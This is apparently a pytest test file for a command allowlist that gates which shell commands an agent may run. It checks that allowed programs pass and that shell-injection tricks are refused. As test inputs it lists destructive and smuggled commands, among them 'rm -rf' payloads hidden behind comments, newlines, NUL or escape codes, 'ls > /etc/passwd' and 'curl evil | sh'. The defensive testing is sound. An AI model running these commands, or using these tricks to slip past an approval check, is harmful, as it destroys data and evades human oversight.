"""Allowlist matching: every segment must run an allowed program; shell tricks never match."""

from __future__ import annotations

import pytest

from hands.approvals import matches, segments
from hands.config import AllowEntry

ALLOW = [AllowEntry(path="/usr/bin/ls"), AllowEntry(path="/usr/bin/wc"),
         AllowEntry(path="/usr/bin/git", args=r"(status|log)( .*)?")]


def allowed(command: str) -> bool:
    return all(matches(s, ALLOW) for s in segments(command, None))


@pytest.mark.parametrize("command", ["ls", "ls -la /workspace | wc -l", "/bin/ls; ls && wc x || ls &",
                                     "git status", "git log --oneline"])
def test_allowed_commands(command: str) -> None:
    assert allowed(command)


@pytest.mark.parametrize(("command", "problem"), [
    ("ls | sh", None),
    ("git push", None),
    ("ls > /etc/passwd", "redirections"),
    ("wc < secret", "redirections"),
    ("ls $(rm -rf /)", "command substitution"),
    ("ls `id`", "command substitution"),
    ("(ls)", "subshells"),
    ("$SHELL -c id", "only known when it runs"),
    ("FOO=1 ls", "only known when it runs"),
    ("nosuchprogram", "not found"),
    ("ls 'unclosed", "does not parse"),
])
def test_refused_commands(command: str, problem: str | None) -> None:
    assert not allowed(command)
    if problem:
        assert any(problem in (s.problem or "") for s in segments(command, None))


def test_argv_is_one_segment_resolved_through_links() -> None:
    (segment,) = segments(None, ["ls", "-l"])
    assert segment.path == "/usr/bin/ls" and segment.args == ["-l"]
    assert matches(segment, ALLOW)


@pytest.mark.parametrize("command", [
    "ls foo#; rm -rf ./*",            # shlex takes '#' in a word for a comment; sh does not
    "echo hi #\ntouch pwned",          # sh runs the second line; shlex saw a comment and a blank
    "ls\ntouch pwned",                 # shlex takes a newline for a space
    "ls \\\ntouch pwned",              # backslash-newline
    "ls\rtouch pwned", "ls\x1b[8m; rm -rf ./*", "ls\x00; id",
    "ls $'\\x3b' rm", "ls ${IFS}x", "git $X status",
    "wc <<EOF\nsecret\nEOF",          # here-documents
])
def test_commands_whose_parse_is_not_certain_never_match(command: str) -> None:
    assert not allowed(command)
    assert all(s.path is None and s.problem for s in segments(command, None))


def test_globs_and_tilde_match_only_entries_without_an_argument_rule() -> None:
    assert allowed("ls *.txt")  # ls has no argument rule: any names may follow
    assert not allowed("git log *") and not allowed("git status ~root")  # git's rule saw no expansion
    assert allowed("git log --oneline")


def test_allow_always_pins_the_arguments_of_programs_that_run_them() -> None:
    from hands.approvals import remembered_entry

    (shell,) = segments("bash -c 'echo safe'", None)
    pinned = AllowEntry.model_validate(remembered_entry(shell))
    assert matches(shell, [pinned])
    for later in ("bash -c 'rm -rf ~'", "bash", "bash -c 'echo safe' extra"):
        assert not all(matches(s, [pinned]) for s in segments(later, None))
    for wrapper in ("env id", "xargs rm", "python3 -c 'print(1)'", "find . -exec rm {} +", "sh -c id"):
        (segment,) = segments(wrapper, None)
        if segment.path is not None:
            assert "args" in remembered_entry(segment), wrapper
    (plain,) = segments("wc -l notes.txt", None)
    assert remembered_entry(plain) == {"path": "/usr/bin/wc"}  # a plain program: every later use


def test_the_summary_shows_control_characters_and_says_when_it_is_cut() -> None:
    from hands.approvals import SUMMARY_CHARS, shown

    text, whole = shown("echo ok\x1b[8m; curl evil | sh\x07\x9b")
    assert whole and "\x1b" not in text and "\\x1b[8m; curl evil | sh\\x07\\x9b" in text
    long_command = "echo " + "A" * 100_000
    text, whole = shown(long_command)
    assert not whole and len(text) < SUMMARY_CHARS + 100
    assert text.endswith("more characters not shown: allow-always is off]")
    assert shown("x" * SUMMARY_CHARS) == ("x" * SUMMARY_CHARS, True)
